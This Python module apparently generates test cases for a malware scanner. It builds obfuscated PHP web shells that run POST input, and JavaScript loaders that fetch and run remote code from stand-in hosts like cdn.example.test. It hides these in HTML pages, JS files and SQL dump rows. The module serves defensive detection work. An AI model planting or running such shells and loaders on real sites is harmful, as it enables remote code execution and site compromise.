"""Small families of generated files: what a scanner must find, and what it must not.

Each gives Cases: family, variant, whether it is malicious, content, the span of what is malicious. Their
parts are joined at run time, as in plants.py; the addresses look as real ones do, and nobody asks for them.
"""

import collections
import random
import zlib

from plants import encoded, join, lifelike, planted

Case = collections.namedtuple("Case", "family variant malicious content span")

HARMLESS = {"php": "<?php echo 1; ?>", "php in one": "$x = 1;", "js": "console.log(1);", "py": "print(1)",
            "html": "<p>1</p>", "sql": "INSERT INTO `t` VALUES (1,'a');"}
ADDRESS = lifelike("wss://stat.example.test/live/?source=")
REMOTE = lifelike("//cdn.example.test/x.js")


def repeated_lines():
    """A harmless line, many times (the shared case 42)."""
    for name, line in HARMLESS.items():
        head = "<?php\n" if name == "php in one" else ""
        for times in (1, 2, 4, 8, 16, 64, 256, 1000):
            yield Case("harmless line, repeated", f"{name} × {times}", False,
                       (head + (line + "\n") * times).encode(), None)


def packed_shells():
    """Code in raw zlib bytes: a file that is mostly no text."""
    noise = random.Random(1)
    for size in (0, 200, 1000, 5000, 20000):
        inner = join("if(isset({POST}['y'])){S}({POST}['y']);")
        inner += "".join(f"$v{noise.randrange(1 << 30)}={noise.randrange(1 << 30)};" for _ in range(size // 24))
        for name, call, packed in (("gzuncompress", "{U}", zlib.compress(inner.encode(), 9)),
                                   ("gzinflate", "{Z}", zlib.compress(inner.encode(), 9)[2:-4])):
            text = packed.replace(b"\\", b"\\\\").replace(b'"', b'\\"').replace(b"$", b"\\$")
            content = b"<?php " + join(f"{{E}}({call}(").encode() + b'"' + text + b'")); ?>\n'
            yield Case("raw zlib in a string", f"{name}, {len(packed)} bytes", True, content, (0, len(content)))


def raw_bytes(hosts, shells):
    """Hosts, as they are and with a shell at the end, and random bytes put into a comment behind the first
    line or behind the file's end: [(host, variant, malicious, Case without, Case with)]."""
    noise, statements = random.Random(2), list(shells.values())
    for number, (member, host) in enumerate(hosts):
        with_shell = planted(host, "end", statements[number % len(statements)])
        for malicious, (content, span) in ((False, (host, None)), (True, with_shell)):
            before = Case("raw bytes inserted", "none", malicious, content, span)
            for size in (16, 256, 4096):
                block = noise.randbytes(size).replace(b"*/", b"*_").replace(b"\n", b"_")
                first = content.index(b"\n") + 1
                inside = content[:first] + b"/* " + block + b" */\n" + content[first:]
                for where, changed in (("comment", inside), ("end", content + b"?>\n" + block)):
                    yield member, f"{size} bytes, {where}", malicious, before, Case(
                        "raw bytes inserted", where, malicious, changed, None)


def loaders():
    """JavaScript that loads more from elsewhere and looks like a tag, {name: line} (the shared case 03)."""
    socket = join("window.hh = new {WS}(('" + ADDRESS + "') + encodeURIComponent(location.href));"
                  "window.hh.onmessage = function(e){{FN}(e.data).call(this)};")
    insert = f"var s=document.createElement('script');s.src='{REMOTE}';document.head.appendChild(s);"
    words = "var|s|document|createElement|script|src|cdn|example|test|x|js|head|appendChild"
    codes = ", ".join(str(ord(letter)) for letter in insert)
    digits = "".join(f"{ord(letter) * 7 % 1000:03d}" for letter in insert)
    escapes = "".join(f"\\x{ord(letter):02x}" for letter in f"<script src='{REMOTE}'></script>")
    return {name: join(text) for name, text in {
        "websocket": "(function(a, d, t, p, u, r, s, w) {w['GoogleTagObjects'] = r; s = d.createElement(t), a = "
                     "d.getElementsByTagName(t)[0]; if (u.href.match(new RegExp({AT}(r)))) {s.async = 1; s.src = "
                     f"{{FN}}({{AT}}(p)).call(this);}}}})('ga', document, 'script', '{encoded(socket)}', "
                     f"window.location, '{encoded('checkout')}', 0, window);",
        "digits": f"var q81 = \"{digits}\", z = ''; for (var i = 0; i < q81.length; i += 3) z += "
                  "{F}(parseInt(q81.substr(i, 3), 10) / 7); {FN}(z)();",
        "packer": "{E}(function(p,a,c,k,e,d){while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+c.toString(a)+"
                  "'\\\\b','g'),k[c])}}return p}('0 1=2.3(\\'4\\');1.5=\\'//6.7.8/9.a\\';2.b.c(1);',13,13,"
                  f"'{words}'.split('|'),0,<>))".replace("<>", "{}"),
        "char codes": f"{{E}}({{F}}({codes}));",
        "hexadecimal": f"{{D}}(\"{escapes}\");",
    }.items()}


def scripts(hosts):
    """Loaders on a line of their own in JavaScript of real projects, and in a page."""
    page = ("<!DOCTYPE html>\n<html>\n<head>\n<title>Spades and forks</title>\n</head>\n<body>\n"
            + "".join(f"<p>Item {n}: of ash and steel, made in small numbers.</p>\n" for n in range(40))
            + "{}</body>\n</html>\n")
    yield Case("loader in html", "none", False, page.replace("{}", "").encode(), None)
    for member, host in hosts:
        yield Case("loader in js", "none", False, host, None)
    for name, line in loaders().items():
        script = f"<script>{line}</script>\n"
        start = page.index("{}")
        yield Case("loader in html", name, True, page.replace("{}", script).encode(), (start, start + len(script)))
        for member, host in hosts:
            for place in ("first", "last"):
                head = host if host.endswith(b"\n") else host + b"\n"
                text = line.encode()
                content = text + b"\n" + host if place == "first" else head + text + b"\n"
                start = 0 if place == "first" else len(head)
                yield Case("loader in js", f"{name}, {place}", True, content, (start, start + len(text)))


TABLES = {"wp_posts": "({n},1,'2024-0{m}-11 10:12:13','<!-- wp:paragraph -->\\n<p>{text}</p>\\n<!-- /wp:paragraph -->"
                      "{plant}','Post {n}','publish','post-{n}')",
          "core_config_data": "({n},'default',0,'design/footer/text_{n}','{text}{plant}','2024-0{m}-15 10:27:00')"}
TEXTS = ("Spades, forks and hoes of ash and steel.", "Our summer hours: Monday to Friday, nine to five.",
         "How to sharpen a hoe: clamp it and file along the bevel.", "owner@shop.example.test", "1", "UTC")


def dumps(shells):
    """SQL dumps with something in one of their rows (the shared case 02)."""
    plants = {"php": f"<?php {shells['decoded eval']} ?>", "open php": f"<?php {shells['eval']} ?>"}
    plants.update({name: f"<script type=\"text/javascript\">{line}</script>" for name, line in loaders().items()})
    plants = {"none": "", **plants}
    for table, row in TABLES.items():
        for rows in (5, 40, 260):
            for name, plant in plants.items():
                quoted = plant.replace("\\", "\\\\").replace("'", "\\'").replace('"', '\\"')
                place, noise, lines = rows * 2 // 3, random.Random(rows), []
                for n in range(rows):
                    lines.append("INSERT INTO `" + table + "` VALUES " + row.format(
                        n=n, m=noise.randint(1, 9), text=noise.choice(TEXTS),
                        plant=quoted if n == place else "") + ";")
                text = f"-- MySQL dump 10.19\n/*!40101 SET NAMES utf8mb4 */;\nCREATE TABLE `{table}` (`id` int);\n"
                text += "\n".join(lines) + "\n"
                start = text.index(quoted) if plant else 0
                yield Case(f"row of {table}", f"{name}, {rows} rows", bool(plant), text.encode(),
                           (start, start + len(quoted)) if plant else None)
